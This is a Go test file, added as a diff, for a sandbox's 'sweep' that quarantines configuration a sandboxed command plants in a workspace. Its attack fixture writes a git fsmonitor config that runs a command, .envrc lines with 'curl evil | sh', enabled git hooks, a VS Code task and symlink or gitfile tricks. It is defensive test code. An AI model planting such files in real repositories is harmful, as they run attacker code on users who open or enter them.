@@ -1,0 +1,203 @@
+package sweep_test
+
+import (
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/landjail/landjail/internal/sweep"
+	"github.com/landjail/landjail/jail"
+)
+
+const evilConfig = "[core]\n\tfsmonitor = touch /tmp/pwned\n"
+
+// tree makes the workspace the sweep starts from: a repository at the
+// root with a disabled hook, a nested one, a plain file tree.
+func tree(t *testing.T) string {
+	root := t.TempDir()
+	for _, d := range []string{".git/hooks", "old/.git/hooks", "src/pkg", "src/svc", "x"} {
+		require.NoError(t, os.MkdirAll(filepath.Join(root, d), 0o755))
+	}
+	files := map[string]string{
+		".git/config":            "[core]\n\tbare = false\n",
+		".git/HEAD":              "ref: refs/heads/main\n",
+		".git/hooks/pre-commit":  "#!/bin/sh\necho disabled\n",
+		"old/.git/config":        "[core]\n",
+		"src/pkg/main.go":        "package main\n",
+		".envrc.example":         "export A=1\n",
+		"src/pkg/.vscodeish.txt": "x",
+		"src/svc/.envrc":         "[core]\n",
+	}
+	for n, c := range files {
+		require.NoError(t, os.WriteFile(filepath.Join(root, n), []byte(c), 0o644))
+	}
+	return root
+}
+
+// attack is what the command does between Take and Sweep.
+func attack(t *testing.T, root string) {
+	w := func(n, c string, mode os.FileMode) {
+		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(root, n)), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(root, n), []byte(c), mode))
+	}
+	w("src/vendor/.git/config", evilConfig, 0o644)       // git init src/vendor + fsmonitor
+	w("src/vendor/.git/hooks/post-checkout", "x", 0o755) // a hook in a new repository
+	w("src/vendor/.git/HEAD", "ref: refs/heads/main\n", 0o644)
+	w("src/.envrc", "curl evil | sh\n", 0o644)                                        // direnv on cd
+	w("src/pkg/.vscode/tasks.json", "{}", 0o644)                                      // folderOpen task
+	w("src/pkg/.cargo/config.toml", "[build]\n", 0o644)                               // rustc-wrapper
+	w("x/repo/config", evilConfig, 0o644)                                             // a repository directory under another name...
+	w("gitfile/.git", "gitdir: ../x/repo\n", 0o644)                                   // ...selected by a gitfile
+	w(".git/hooks/post-merge", "x", 0o755)                                            // a new hook in an existing directory
+	require.NoError(t, os.Chmod(filepath.Join(root, ".git/hooks/pre-commit"), 0o755)) // enable a disabled hook
+	// Replace a nested config by moving its directory away (the mount
+	// or carve-out stays on the old inode) and writing a new one.
+	require.NoError(t, os.Rename(filepath.Join(root, "old/.git"), filepath.Join(root, "old/.git-moved")))
+	w("old/.git/config", evilConfig, 0o644)
+	// An existing nested file changed in place (same inode): nested
+	// configuration is not carved out for children, the sweep restores it.
+	f, err := os.OpenFile(filepath.Join(root, "src/svc/.envrc"), os.O_WRONLY|os.O_APPEND, 0)
+	require.NoError(t, err)
+	_, err = f.WriteString("curl evil | sh\n")
+	require.NoError(t, err)
+	require.NoError(t, f.Close())
+	require.NoError(t, os.Symlink("../x/repo", filepath.Join(root, "lnk.git")))
+	require.NoError(t, os.MkdirAll(filepath.Join(root, "sym"), 0o755))
+	require.NoError(t, os.Symlink("../x/repo", filepath.Join(root, "sym/.git")))
+}
+
+// TestSweep: what the command created or changed is renamed out of the
+// way, originals are restored, and nothing else is touched. Control: the
+// same attack with a policy that does not protect agent configuration
+// is left in place (Take returns nil).
+func TestSweep(t *testing.T) {
+	root := tree(t)
+	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
+	require.NoError(t, err)
+	defer ws.Close()
+	snap, err := sweep.Take(ws, 0)
+	require.NoError(t, err)
+	defer snap.Close()
+	attack(t, root)
+	q, err := snap.Sweep()
+	require.NoError(t, err)
+
+	got := map[string]sweep.Quarantined{}
+	for _, e := range q {
+		got[e.Path] = e
+		t.Log(e)
+	}
+	want := map[string]string{
+		"src/vendor/.git/config":     "created",
+		"src/vendor/.git/hooks":      "created",
+		"src/.envrc":                 "created",
+		"src/pkg/.vscode":            "created",
+		"src/pkg/.cargo/config.toml": "created",
+		"gitfile/.git":               "created",
+		"sym/.git":                   "created",
+		".git/hooks/post-merge":      "created",
+		".git/hooks/pre-commit":      "mode",
+		"old/.git/config":            "replaced",
+		"src/svc/.envrc":             "changed",
+	}
+	for p, reason := range want {
+		if assert.Contains(t, got, p) {
+			assert.Equal(t, reason, got[p].Reason, p)
+			assert.Empty(t, got[p].Error, p)
+		}
+		if reason == "mode" {
+			continue
+		}
+		if reason == "replaced" || reason == "changed" {
+			b, err := os.ReadFile(filepath.Join(root, p))
+			require.NoError(t, err, "restored")
+			assert.Equal(t, "[core]\n", string(b), "original content restored")
+			assert.True(t, got[p].Restored)
+		} else {
+			_, err := os.Lstat(filepath.Join(root, p))
+			assert.ErrorIs(t, err, os.ErrNotExist, "%s moved away", p)
+		}
+		if assert.True(t, strings.HasPrefix(got[p].MovedTo, p+sweep.Suffix), got[p].MovedTo) {
+			_, err := os.Lstat(filepath.Join(root, got[p].MovedTo))
+			assert.NoError(t, err, "kept for inspection")
+		}
+	}
+	assert.Len(t, q, len(want), "nothing else")
+	fi, err := os.Stat(filepath.Join(root, ".git/hooks/pre-commit"))
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0o644), fi.Mode().Perm(), "mode set back")
+	for _, p := range []string{".git/config", ".git/HEAD", "old/.git-moved/config", "src/vendor/.git/HEAD", "x/repo/config", "lnk.git", "src/pkg/main.go"} {
+		_, err := os.Lstat(filepath.Join(root, p))
+		assert.NoError(t, err, "left alone: %s", p)
+	}
+
+	// A second sweep finds nothing: the quarantined names are inert.
+	q, err = snap.Sweep()
+	require.NoError(t, err)
+	assert.Empty(t, q)
+
+	// Control: without the protection the same attack stays.
+	root = tree(t)
+	ctl, err := jail.New(root)
+	require.NoError(t, err)
+	defer ctl.Close()
+	none, err := sweep.Take(ctl, 0)
+	require.NoError(t, err)
+	assert.Nil(t, none)
+	attack(t, root)
+	q, err = none.Sweep()
+	require.NoError(t, err)
+	assert.Empty(t, q)
+	_, err = os.Stat(filepath.Join(root, "src/vendor/.git/config"))
+	assert.NoError(t, err)
+}
+
+// TestSweepNoFollow: a symlinked directory is never walked into or acted
+// through: a protected name behind it (outside the workspace here) is
+// left alone.
+func TestSweepNoFollow(t *testing.T) {
+	root, outside := t.TempDir(), t.TempDir()
+	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
+	require.NoError(t, err)
+	defer ws.Close()
+	snap, err := sweep.Take(ws, 0)
+	require.NoError(t, err)
+	defer snap.Close()
+	require.NoError(t, os.MkdirAll(filepath.Join(outside, ".git"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(outside, ".git/config"), []byte("user's own"), 0o644))
+	require.NoError(t, os.Symlink(outside, filepath.Join(root, "out")))
+	q, err := snap.Sweep()
+	require.NoError(t, err)
+	assert.Empty(t, q)
+	_, err = os.Stat(filepath.Join(outside, ".git/config"))
+	assert.NoError(t, err)
+}
+
+// TestSweepWalkLimit: a tree larger than the limit is an error, never a
+// partial sweep reported as complete.
+func TestSweepWalkLimit(t *testing.T) {
+	root := tree(t)
+	ws, err := jail.New(root, jail.WithProtectedAgentConfig())
+	require.NoError(t, err)
+	defer ws.Close()
+	_, err = sweep.Take(ws, 3)
+	assert.ErrorIs(t, err, sweep.ErrWalkLimit)
+
+	// The command grows the tree past the limit: the sweep fails, and
+	// still renames what it met before the limit.
+	snap, err := sweep.Take(ws, 20)
+	require.NoError(t, err)
+	defer snap.Close()
+	require.NoError(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("x"), 0o644))
+	for i := range 30 {
+		require.NoError(t, os.WriteFile(filepath.Join(root, "x", strconv.Itoa(i)), nil, 0o644))
+	}
+	q, err := snap.Sweep()
+	assert.ErrorIs(t, err, sweep.ErrWalkLimit)
+	t.Log(q)
+}
